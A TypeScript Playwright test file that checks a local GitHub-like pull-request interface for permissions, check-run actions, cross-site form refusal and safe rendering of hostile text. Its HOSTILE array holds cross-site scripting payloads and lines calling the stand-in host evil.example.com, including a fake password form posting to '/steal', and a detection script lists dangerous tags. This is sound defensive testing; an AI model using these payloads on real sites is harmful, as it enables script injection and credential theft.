import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals'
import type { Browser, Page } from 'playwright-core'
import { keepScreenshot, openBrowser } from '../../support/browser.ts'
import { type Body, openPull, openScene, type RestClient, type Scene, settled } from '../../support/local-github.ts'

let scene: Scene
let browser: Browser
let page: Page
let repository: string
let pull: Body
/** Requests the page made to anywhere else, and scripts that got to speak. */
let escaped: string[]

beforeAll(async () => {
  scene = await openScene()
  browser = await openBrowser()
})
afterAll(async () => {
  await browser.close()
  await scene.close()
})
beforeEach(async () => {
  repository = await scene.repository()
  pull = await openPull(scene.bob, repository, 'feature', { title: 'A feature', body: 'Why, and **how**' })
  await settled(scene.bob, repository, pull.number)
  page = await (await browser.newContext()).newPage()
  page.setDefaultTimeout(10_000)
  escaped = []
  page.on('request', (request) => {
    if (!request.url().startsWith(scene.github.url)) escaped.push(request.url())
  })
  page.on('dialog', (dialog) => {
    escaped.push(dialog.message())
    void dialog.dismiss()
  })
})
afterEach(() => page.context().close())

const address = (path = '') => `${scene.github.url}/${repository.replace('/repos/', '')}${path}`
const open = (tab = '') => page.goto(address(`/pull/${pull.number}${tab}`))

async function signInAs(login: string): Promise<void> {
  await Promise.all([page.waitForNavigation(), page.getByLabel('signed in as').selectOption(login)])
}

async function press(name: string): Promise<void> {
  await Promise.all([page.waitForNavigation(), page.getByRole('button', { name }).click()])
}

async function commentAs(login: string, text: string): Promise<void> {
  await signInAs(login)
  await page.getByLabel('comment').fill(text)
  await press('Comment')
}

describe('the pages', () => {
  test('lead from the repositories to a pull request', async () => {
    await page.goto(scene.github.url)
    await signInAs('bob')
    await page.getByRole('link', { name: repository.replace('/repos/', ''), exact: true }).click()
    await page.getByRole('link', { name: 'README.md' }).waitFor()
    await page.getByRole('link', { name: 'Pull requests' }).click()
    await page.getByRole('link', { name: 'A feature' }).click()
    expect(await page.locator('h1').textContent()).toContain('A feature')
    expect(await page.locator('strong', { hasText: 'how' }).count()).toBe(1)
    await keepScreenshot(page, 'conversation')
    expect(scene.github.unknownRequests).toEqual([])
  })

  test('show the changed lines', async () => {
    await open('/files')
    expect(await page.locator('.diff .add').allTextContents()).toContain('+feature')
    await keepScreenshot(page, 'files')
  })

  test('let a person comment in their own name', async () => {
    await open()
    await commentAs('bob', '/promote staging')
    expect(await page.locator('.box', { hasText: '/promote staging' }).locator('b').first().textContent()).toBe('bob')
    const { body: comments } = await scene.bob.get(`${repository}/issues/${pull.number}/comments`)
    expect(comments.map(({ user, body }: Body) => `${user.login}: ${body}`)).toEqual(['bob: /promote staging'])
  })

  test('merge as the person who is signed in, and only the head that was shown', async () => {
    await open()
    await signInAs('bob')
    await press('Merge pull request')
    expect(await page.locator('.state').first().textContent()).toMatch(/merged/i)
    const { body } = await scene.bob.get(`${repository}/pulls/${pull.number}`)
    expect(body).toMatchObject({ merged: true, merged_by: { login: 'bob' }, head: { sha: pull.head.sha } })
  })

  test('show GitHub’s refusal to one who may not merge', async () => {
    await open()
    await signInAs('rita')
    await press('Merge pull request')
    expect(await page.locator('h1').textContent()).toBe('GitHub refused')
    expect((await scene.bob.get(`${repository}/pulls/${pull.number}`)).body.merged).toBe(false)
  })

  test('refuse forms of other sites', async () => {
    const { status } = await fetch(address(`/pull/${pull.number}/comments`), {
      method: 'POST',
      headers: { origin: 'https://evil.example.com', cookie: 'login=bob' },
      body: new URLSearchParams({ body: 'not mine' }),
    })
    expect(status).toBe(403)
    expect((await scene.bob.get(`${repository}/issues/${pull.number}/comments`)).body).toEqual([])
  })
})

describe('a check', () => {
  let run: Body

  beforeEach(async () => {
    const robot = await scene.robot()
    const actions = [{ label: 'Heal now', description: 'Undo what somebody did', identifier: 'heal' }]
    const output = { title: 'Drift in prod', summary: '`replicas` is **5**' }
    const request = { name: 'lockstep/gate', head_sha: pull.head.sha, conclusion: 'failure', output, actions }
    run = (await robot.post(`${repository}/check-runs`, request)).body
  })

  test('shows its text, and its button tells the App who pressed it', async () => {
    await open('/checks')
    await signInAs('bob')
    expect(await page.locator('h2').textContent()).toBe('Drift in prod')
    await keepScreenshot(page, 'checks')
    await press('Heal now')
    const isOurs = (payload: Body) => payload.check_run.id === run.id
    const { payload } = await scene.webhooks.waitFor('check_run.requested_action', isOurs)
    expect(payload).toMatchObject({ requested_action: { identifier: 'heal' }, sender: { login: 'bob' } })
  })

  test('can be asked to run again', async () => {
    await open('/checks')
    await signInAs('bob')
    await press('Re-run')
    await scene.webhooks.waitFor('check_run.rerequested', (payload) => payload.check_run.id === run.id)
  })

  test('has no button of its App for one who may not write, and none that was not offered', async () => {
    await open('/checks')
    await signInAs('rita')
    expect(await page.getByRole('button', { name: 'Heal now' }).count()).toBe(0)
    for (const [login, what] of [
      ['rita', 'heal'],
      ['bob', 'other'],
    ] as const) {
      const { status } = await fetch(address(`/pull/${pull.number}/checks/${run.id}`), {
        method: 'POST',
        headers: { cookie: `login=${login}` },
        body: new URLSearchParams({ do: what }),
      })
      expect(status).toBe(404)
    }
  })
})

const HOSTILE = [
  '<script>alert("script")</script>',
  '<img src="x" onerror="alert(1)"> ![beacon](https://evil.example.com/beacon.png)',
  '<svg onload="alert(2)"><image href="https://evil.example.com/svg.png"/></svg>',
  '<a id="bad-link" href="javascript:alert(3)">press me</a> [so](javascript:alert%284%29)',
  '<iframe src="https://evil.example.com/frame"></iframe><object data="https://evil.example.com/o"></object>',
  '<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example.com/a.css">',
  '<div style="position:fixed;inset:0;background:url(https://evil.example.com/bg.png)">over everything</div>',
  '<form action="https://evil.example.com/steal"><input name="password"><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example.com/away"><base href="https://evil.example.com/">',
  '</div></main><h1 class="state merged">Merged</h1>',
]

describe('hostile text', () => {
  const wherever: [string, (client: RestClient) => Promise<unknown>, string][] = [
    [
      'a comment',
      (bob) => bob.post(`${repository}/issues/${pull.number}/comments`, { body: HOSTILE.join('\n\n') }),
      '',
    ],
    ['a description', (bob) => bob.patch(`${repository}/pulls/${pull.number}`, { body: HOSTILE.join('\n\n') }), ''],
    [
      'a title',
      (bob) => bob.patch(`${repository}/pulls/${pull.number}`, { title: HOSTILE.join(' ').slice(0, 250) }),
      '',
    ],
    ['a check', () => hostileCheck(), '/checks'],
  ]

  test.each(wherever)('in %s does nothing', async (_, write, tab) => {
    await write(scene.bob)
    await open(tab)
    await page.waitForLoadState('networkidle')
    expect(escaped).toEqual([])
    expect(page.url()).toBe(address(`/pull/${pull.number}${tab}`))
    expect(await page.locator('body').isVisible()).toBe(true)
    expect(await dangerousElements()).toEqual([])
    for (const link of await page.locator('main a', { hasText: 'press me' }).all()) await link.click()
    expect(escaped).toEqual([])
    await keepScreenshot(page, 'hostile')
  })

  test('is kept from loading anything by the browser too', async () => {
    const response = await open()
    expect(response?.headers()['content-security-policy']).toMatch(/^default-src 'none'/)
  })
})

async function hostileCheck(): Promise<void> {
  const robot = await scene.robot()
  const output = { title: HOSTILE[1], summary: HOSTILE.join('\n\n'), text: HOSTILE.join('\n\n') }
  await robot.post(`${repository}/check-runs`, {
    name: HOSTILE[0],
    head_sha: pull.head.sha,
    conclusion: 'neutral',
    output,
  })
}

/** Elements and attributes in the page's content that somebody's text must not bring. Runs in the page. */
const FIND_DANGEROUS = `
  const all = (selector) => [...document.querySelectorAll(selector)]
  const tags = 'script, style, link, meta, base, iframe, object, embed, svg, img, [style], [src]'
  const found = [
    ...all('main :is(' + tags + '), h1.state'),
    ...all('form').filter((form) => !form.action.startsWith(location.origin)),
    ...all('main *').filter((element) => element.getAttributeNames().some((name) => name.startsWith('on'))),
    ...all('a').filter((link) => link.href.startsWith('javascript:')),
  ]
  found.map((element) => element.outerHTML)
`

const dangerousElements = (): Promise<string[]> => page.evaluate<string[]>(FIND_DANGEROUS)
